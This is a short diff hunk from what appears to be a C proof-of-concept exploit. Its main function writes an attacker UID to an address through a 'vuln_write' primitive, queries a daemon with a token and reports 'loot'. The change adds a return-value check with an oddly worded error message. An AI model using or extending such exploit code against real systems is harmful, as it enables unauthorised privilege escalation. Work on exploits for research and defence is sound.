@@ -29,7 +29,8 @@ int main(int argc, char **argv)
 		die("the daemon does not get to its read");
 
 	vuln_write(r.addr, ATTACKER_UID);
-	ask_daemon(token);
+	if (!ask_daemon(token))
+		out_of_reach("the daemon has the registers that it had");
 	report_loot(token);
 	return 0;
 }
